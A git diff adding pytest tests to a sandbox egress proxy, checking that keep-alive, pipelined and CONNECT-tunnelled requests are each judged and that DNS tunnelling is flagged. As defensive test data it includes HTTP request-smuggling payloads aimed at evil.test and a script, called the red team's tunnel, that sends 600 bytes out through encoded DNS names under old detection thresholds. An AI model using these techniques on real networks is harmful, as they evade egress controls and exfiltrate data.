@@ -673,3 +673,333 @@ def test_connections_per_sandbox_are_bounded(egd, net):
         assert "host=pypi.test" in sh(other, "curl -sS -m 10 http://pypi.test/").stdout
         limited = [e for e in tcp(sb) if e["reason"] == "too-many-connections"]
         assert len(limited) == 44 and sb.violations()["counts"]["egress"] == 0
+
+
+# ---- item 13 of issue 18: every plain-HTTP request on a connection is judged ----
+
+# Runs in the sandbox: each step is one connection to pypi.test's address on
+# 8081 (fakenet's keep-alive server, which ignores "Connection: close"), given
+# as the parts to send; after each part it reads until a whole response, the
+# end of the stream or a reset. Prints one JSON list per connection of what
+# each part got back.
+KEEPALIVE_CLIENT = r"""
+import json, re, socket, sys
+for n in sys.argv[2:]:
+    socket.gethostbyname(n)  # the stub pins what it answers
+ip = socket.gethostbyname("pypi.test")
+for step in json.loads(sys.argv[1]):
+    # a step that starts with CONNECT goes through "a proxy" at some address instead
+    s = socket.create_connection(("203.0.113.10", 3128) if step[0].startswith("CONNECT") else (ip, 8081), timeout=5)
+    got = []
+    for part in step:
+        try:
+            s.sendall(part.encode("latin-1"))
+        except OSError as e:
+            got.append(type(e).__name__)
+            break
+        data = b""
+        try:
+            while True:
+                m = re.search(rb"Content-Length: (\d+)\r\n\r\n", data)
+                if m and len(data) >= m.end() + int(m.group(1)):
+                    break
+                if data.startswith(b"HTTP/1.1 200 Connection established\r\n\r\n"):
+                    break
+                chunk = s.recv(65536)
+                if not chunk:
+                    data += b"<eof>"
+                    break
+                data += chunk
+        except OSError as e:
+            data += b"<" + type(e).__name__.encode() + b">"
+        got.append(data.decode("latin-1"))
+        if data.endswith(b">"):
+            break
+    s.close()
+    print(json.dumps(got))
+"""
+
+KA_ALLOW = ["pypi.test:8081", "*.pypi.test:8081", "secure.test:8081"]
+
+
+def req(host, target="/", extra=""):
+    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n"
+
+
+def keepalive_run(sb, steps, resolve=()):
+    r = sb.exec(["python3", "-c", KEEPALIVE_CLIENT, json.dumps(steps), *resolve], timeout_s=60)
+    assert r.exit_code == 0, r
+    return [json.loads(line) for line in r.stdout.splitlines()]
+
+
+def test_keepalive_and_pipelined_requests_are_each_judged(egd, net, tier):
+    """The proxy used to judge the first request head of a plain-HTTP
+    connection and splice the rest: an upstream that ignores
+    "Connection: close" (fakenet's keep-alive server, on pypi.test's address)
+    then served requests for any host. Seen failing before the fix: the
+    server's log held "host": "evil.test" for the keep-alive, the pipelined
+    and the absolute-form requests, and the sandbox got "host=evil.test" back."""
+    before = len(net.hits(kind="keepalive"))
+    with make(egd, tier=tier, allow=KA_ALLOW) as sb:
+        got = keepalive_run(sb, [
+            # keep-alive: an allowed second request passes, a third for another host does not
+            [req("pypi.test"), req("pypi.test", "/2"), req("evil.test")],
+            # pipelined in one write
+            [req("pypi.test") + req("evil.test")],
+            # a later request in absolute form names its host in the URI
+            [req("pypi.test"), req("evil.test", "http://evil.test/")],
+            # another allowed name on the same address passes; one pinned to another address does not
+            [req("pypi.test"), req("files.pypi.test"), req("secure.test")],
+            # a later head that names no host, or is not HTTP
+            [req("pypi.test"), "GET / HTTP/1.0\r\n\r\n"],
+            [req("pypi.test"), "\x16\x03\x01\x00\x05hello"],
+        ], resolve=["files.pypi.test", "secure.test"])
+        assert "host=pypi.test" in got[0][0] and "host=pypi.test" in got[0][1], got[0]
+        assert len(got[0]) == 3 and "keepalive" not in got[0][2], got[0]
+        assert all("evil.test" not in g for step in got for g in step), got
+        assert "host=files.pypi.test" in got[3][1] and "keepalive" not in got[3][2], got[3]
+        assert "keepalive" not in got[4][1] and "keepalive" not in got[5][1], got
+        refused = [(e.get("name"), e["reason"]) for e in tcp(sb) if e["decision"] == "deny"]
+        assert refused == [("evil.test", "not-allowlisted"), ("evil.test", "not-allowlisted"),
+                           ("evil.test", "not-allowlisted"), ("secure.test", "ip-mismatch"),
+                           (None, "no-host"), (None, "bad-http")], refused
+        admitted = [(e.get("name"), e["reason"]) for e in tcp(sb) if e["decision"] == "allow"]
+        assert admitted.count(("pypi.test", "allowlist")) == 6 and ("files.pypi.test", "allowlist") in admitted
+        assert sb.violations()["counts"]["egress"] == 6
+    hosts = [h["host"] for h in net.hits(kind="keepalive")[before:]]
+    assert "evil.test" not in hosts and "secure.test" not in hosts, hosts
+    assert hosts.count("pypi.test") >= 4 and "files.pypi.test" in hosts, hosts
+
+
+def smuggle(name, first, second):
+    """A request whose content, framed one way, is a second request, for evil.test/NAME."""
+    second = second.replace("/evil", "/" + name)
+    return first.replace("{n}", str(len(second))) + second
+
+
+EVIL = req("evil.test", "/evil")
+SMUGGLING = {
+    # content on GET: a server that ignores it reads the content as the next request (CL.0)
+    "get-with-content": ("GET / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: {n}\r\n\r\n", EVIL),
+    # Content-Length and Transfer-Encoding both: which one frames the content?
+    "cl-and-te": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: {n}\r\nTransfer-Encoding: chunked\r\n\r\n",
+                  "0\r\n\r\n" + EVIL),
+    # two lengths: the server takes the first, 0
+    "two-lengths": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: 0\r\nContent-Length: {n}\r\n\r\n", EVIL),
+    # bare LF: the proxy and the server must agree on where lines end
+    "bare-lf": ("GET / HTTP/1.1\nHost: pypi.test\n\n", "GET /evil HTTP/1.1\nHost: evil.test\n\n"),
+    # obsolete line folding
+    "obs-fold": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nX-A: a\r\n Content-Length: 0\r\nContent-Length: {n}\r\n\r\n",
+                 EVIL),
+    # a chunked body whose trailer names another host
+    "trailer-host": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nTransfer-Encoding: chunked\r\n\r\n",
+                     "0\r\nHost: evil.test\r\n\r\n" + EVIL),
+}
+
+
+def test_request_smuggling_is_refused(egd, net, tier):
+    """Heads that a server could frame otherwise than the proxy are refused
+    (403, bad-http) before anything reaches the upstream; so is a stream whose
+    chunked framing cannot be read one way only. Seen failing before the fix:
+    the keep-alive server served evil.test for get-with-content, cl-and-te,
+    two-lengths, bare-lf and trailer-host."""
+    before = len(net.hits(kind="keepalive"))
+    with make(egd, tier=tier, allow=KA_ALLOW) as sb:
+        got = keepalive_run(sb, [[smuggle(k, *v)] for k, v in SMUGGLING.items()])
+        hits = net.hits(kind="keepalive")[before:]
+        reached = [h["request"].split()[1][1:] for h in hits if h["host"] == "evil.test"]
+        assert reached == [], f"smuggled to evil.test: {reached}"
+        for name, g in zip(SMUGGLING, got):
+            if name == "trailer-host":  # the head is fine; the trailer ends the stream
+                assert "keepalive" not in g[0] and g[0].endswith(">"), (name, g)
+                continue
+            assert g[0].startswith("HTTP/1.1 403") and "(bad-http)" in g[0], (name, g)
+        t = [(e.get("name"), e["decision"], e["reason"]) for e in tcp(sb)]
+        assert t == [(None, "deny", "bad-http")] * (len(SMUGGLING) - 1) + [
+            (None, "deny", "bad-http"), ("pypi.test", "allow", "allowlist")], t
+        assert sb.violations()["counts"]["egress"] == len(SMUGGLING)
+    assert [h for h in net.hits(kind="keepalive")[before:] if h["host"] != "pypi.test"] == []
+
+
+# ---- item 14 of issue 18: a budget of self-chosen DNS names ----
+
+# The red team's tunnel: 600 bytes out through names the sandbox chooses, each
+# under the old thresholds (labels < 50, names < 100, < 50 questions a second).
+SLOW_TUNNEL = r"""
+import base64, os, socket, sys, time
+suffix = sys.argv[1]
+data = base64.b32encode(os.urandom(600)).decode().rstrip("=").lower()
+chunks = [data[i:i + 80] for i in range(0, len(data), 80)]
+for i, c in enumerate(chunks):
+    name = "s%02d.%s.%s.%s" % (i, c[:40], c[40:], suffix)
+    assert len(name) < 100 and max(len(l) for l in name.split(".")) < 50
+    try:
+        socket.getaddrinfo(name, 80, socket.AF_INET)
+    except OSError:
+        pass
+    time.sleep(0.05)
+print(len(chunks))
+"""
+
+# What ordinary work asks: a few fixed hosts, again and again.
+ORDINARY = r"""
+import socket, sys, time
+for _ in range(20):
+    for n in sys.argv[1:]:
+        try:
+            socket.getaddrinfo(n, 443, socket.AF_INET)
+        except OSError:
+            pass
+    time.sleep(0.1)
+print("ok")
+"""
+
+
+def dns_alerts(sb):
+    return [e for e in sb.events() if e["type"] == "alert" and e["source"] == "dns"]
+
+
+@pytest.mark.parametrize("mode", ["wildcard", "open"])
+def test_dns_tunnel_under_the_old_thresholds_is_flagged(egd, net, tier, mode):
+    """600 bytes left through 12 names under an allowed wildcard, or in open
+    mode, with 0 alerts: every label, name and rate was under the long-name and
+    rate heuristics. Seen failing before the fix: no alert at all (the
+    assertion on "dns-budget"), while the fake upstream received every name."""
+    allow, suffix = (["*.pypi.test:80"], "pypi.test") if mode == "wildcard" else ([], "tunnel.test")
+    with make(egd, tier=tier, allow=allow, mode="allowlist" if mode == "wildcard" else "open") as sb:
+        r = sb.exec(["python3", "-c", SLOW_TUNNEL, suffix], timeout_s=60)
+        assert r.exit_code == 0 and int(r.stdout) == 12, r
+        assert len([h for h in net.hits(kind="dns") if h["name"].endswith("." + suffix)
+                    and h["name"].startswith("s")]) >= 12, "the tunnel's names did not reach the upstream"
+        alerts = dns_alerts(sb)
+        assert [a["rule"] for a in alerts] == ["dns-budget"], alerts
+        a = alerts[0]
+        assert a["names"] >= 6 and a["bytes"] > 512 and a["window_s"] == 60, a
+        assert (a["budget_names"], a["budget_bytes"], a["action"]) == (64, 512, "alert"), a
+        assert "last: s" in a["excerpt"], a
+        assert sb.violations()["counts"]["egress"] == 0  # an alert, not a violation, unless configured
+
+
+def test_ordinary_lookups_stay_under_the_dns_budget(egd, net, tier):
+    """A few fixed hosts asked again and again (pip, git): nothing to flag,
+    under a wildcard or in open mode."""
+    with make(egd, tier=tier, allow=["*.pypi.test", "pypi.test", "secure.test"]) as sb:
+        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test"], timeout_s=60)
+        assert r.stdout.strip() == "ok", r
+        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
+        assert dns_alerts(sb) == []
+    with make(egd, tier=tier, allow=[], mode="open") as sb:
+        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test", "evil.test",
+                     "www.evil.test"], timeout_s=60)
+        assert r.stdout.strip() == "ok", r
+        assert dns_alerts(sb) == []
+
+
+def test_dns_budget_refuse_mode(shared_dir, net, tier):
+    """dns_budget = …,action=refuse: new names beyond the budget are REFUSED
+    (they never reach the upstream) and each is an egress violation; names
+    already resolved in the window still are."""
+    state = os.path.join(shared_dir, "state")
+    d = cordonlib.Daemon(shared_dir, "--state-dir", state, "--dns-upstream", fakenet.DNS_IP,
+                         "--dns-budget", "names=4,bytes=400,window=60s,action=refuse")
+    try:
+        with make(d, tier=tier, allow=["*.pypi.test:80", "pypi.test:80"]) as sb:
+            r = sh(sb, "for n in a b c d e f a; do getent ahostsv4 $n.pypi.test >/dev/null; done; "
+                       "getent ahostsv4 pypi.test | head -1")
+            assert r.stdout.split()[:1] == ["203.0.113.10"], r  # an exact entry: never counted
+            dns = [(e["name"], e["decision"], e["reason"]) for e in egress(sb) if e["proto"] == "dns"]
+            refused = {n for n, dec, why in dns if why == "dns-budget"}
+            assert refused == {"e.pypi.test", "f.pypi.test"}, dns
+            assert all(dec == "deny" for n, dec, why in dns if why == "dns-budget"), dns
+            assert {n for n, dec, why in dns if dec == "allow"} == {"a.pypi.test", "b.pypi.test", "c.pypi.test",
+                                                                    "d.pypi.test", "pypi.test"}, dns
+            assert sb.violations()["counts"]["egress"] == sum(why == "dns-budget" for _, _, why in dns)
+            alerts = dns_alerts(sb)
+            assert alerts and alerts[0]["rule"] == "dns-budget" and alerts[0]["action"] == "refuse", alerts
+            assert alerts[0]["names"] == 5, alerts
+    finally:
+        assert d.stop() == 0, d.output()
+    asked = {h["name"] for h in net.hits(kind="dns")}
+    assert "a.pypi.test" in asked and not {"e.pypi.test", "f.pypi.test"} & asked, asked
+
+
+def test_one_shot_run_has_the_dns_budget(shared_dir, net, tier):
+    """`cordon run` counts the same budget ($CORDON_DNS_BUDGET, as cordond's dns_budget)."""
+    state = os.path.join(shared_dir, "state")
+    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
+    argv = [cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=*.pypi.test:80", "--",
+            "python3", "-c", SLOW_TUNNEL, "pypi.test"]
+    p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120)
+    assert p.returncode == 0 and p.stdout.strip() == "12", p
+    assert "egress alert: dns-budget:" in p.stderr, p.stderr
+    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] == 0
+    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=3,action=refuse"),
+                       timeout=120)
+    assert p.returncode == 0, p
+    # 9 names refused (glibc asks again after a REFUSED: each question is one violation)
+    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] >= 9, p.stderr
+    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=999"), timeout=60)
+    assert p.returncode == 125 and "CORDON_DNS_BUDGET: names=999" in p.stderr, p.stderr
+
+
+CONNECT_TLS = r"""
+import socket, ssl, sys
+out = []
+for sni in sys.argv[1:]:
+    s = socket.create_connection(("203.0.113.10", 3128), timeout=5)
+    s.sendall(b"CONNECT secure.test:443 HTTP/1.1\r\nHost: secure.test:443\r\n\r\n")
+    assert s.recv(100).startswith(b"HTTP/1.1 200")
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        t.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % sni.encode())
+        out.append(t.recv(200).split(b"\r\n\r\n", 1)[-1].decode().strip())
+    except OSError as e:
+        out.append(type(e).__name__)
+print("|".join(out))
+"""
+
+
+def test_what_a_connect_tunnel_carries_is_judged(egd, net, tier):
+    """A CONNECT to a name on the list used to be spliced as it was: plain
+    HTTP inside it could name any host on that server, and a ClientHello any
+    SNI. Seen failing before the fix: the keep-alive server served evil.test
+    through "CONNECT pypi.test:8081", and the TLS server answered a
+    ClientHello for evil.test through "CONNECT secure.test:443"."""
+    before = len(net.hits(kind="keepalive"))
+    with make(egd, tier=tier, allow=KA_ALLOW + ["secure.test:443"]) as sb:
+        tunnel = "CONNECT pypi.test:8081 HTTP/1.1\r\nHost: pypi.test:8081\r\n\r\n"
+        got = keepalive_run(sb, [[tunnel, req("pypi.test"), req("pypi.test", "/2"), req("evil.test")],
+                                 [tunnel, req("evil.test")],
+                                 [tunnel, req("secure.test")],
+                                 [tunnel, "SSH-2.0-OpenSSH_9.6\r\n"]])
+        r = sb.exec(["python3", "-c", CONNECT_TLS, "secure.test", "evil.test"], timeout_s=60)
+        out = r.stdout.strip().split("|")
+        served = [g.rsplit("host=", 1)[-1].strip() for step in got for g in step if "keepalive" in g]
+        leaked = [h for h in served if h != "pypi.test"] + (["tls:evil.test"] if "hello" in out[-1] else [])
+        assert leaked == [], f"reached through a tunnel: {leaked}"
+        assert served == ["pypi.test", "pypi.test"], got
+        assert len(got[3]) == 2 and "keepalive" not in got[3][1], got[3]  # not HTTP: passed as it is
+        assert out[0] == "hello from 203.0.113.11:443 host=secure.test", r
+        refused = [(e.get("name"), e.get("via"), e["reason"]) for e in tcp(sb) if e["decision"] == "deny"]
+        assert refused == [("evil.test", "host", "not-allowlisted"), ("evil.test", "host", "not-allowlisted"),
+                           ("secure.test", "host", "ip-mismatch"), ("evil.test", "sni", "not-allowlisted")], refused
+    hosts = [h["host"] for h in net.hits(kind="keepalive")[before:]]
+    assert "evil.test" not in hosts and "secure.test" not in hosts and hosts.count("pypi.test") == 2, hosts
+
+
+def test_one_shot_run_judges_every_request(shared_dir, net, tier):
+    """`cordon run` runs the same proxy: a keep-alive request for another host is refused there too."""
+    state = os.path.join(shared_dir, "state")
+    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
+    before = len(net.hits(kind="keepalive"))
+    steps = json.dumps([[req("pypi.test"), req("evil.test")]])
+    p = subprocess.run([cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=pypi.test:8081", "--",
+                        "python3", "-c", KEEPALIVE_CLIENT, steps], capture_output=True, text=True, env=env, timeout=60)
+    assert p.returncode == 0, p.stderr
+    got = json.loads(p.stdout.splitlines()[0])
+    assert "host=pypi.test" in got[0] and "keepalive" not in got[1], got
+    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] == 1, p.stderr
+    assert [h["host"] for h in net.hits(kind="keepalive")[before:]] == ["pypi.test"]
